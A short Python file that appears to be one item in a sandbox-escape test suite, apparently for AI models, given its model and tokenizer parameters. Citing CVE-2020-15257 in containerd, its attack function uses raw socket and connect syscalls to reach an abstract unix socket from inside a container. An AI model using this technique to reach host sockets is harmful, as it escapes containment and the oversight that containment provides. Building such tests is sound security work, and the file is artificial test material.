"""Class: network. Source: CVE-2020-15257 (containerd). Escape: a unix socket without a file, which
no root hides.
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def address(family, *parts):
    return family.to_bytes(2, "little") + b"".join(parts)


def attack(model, tokenizer, scene):
    peer = address(1, b"\0", scene["abstract"].encode())
    return libc.syscall(42, libc.syscall(41, 1, 1, 0), peer, len(peer))
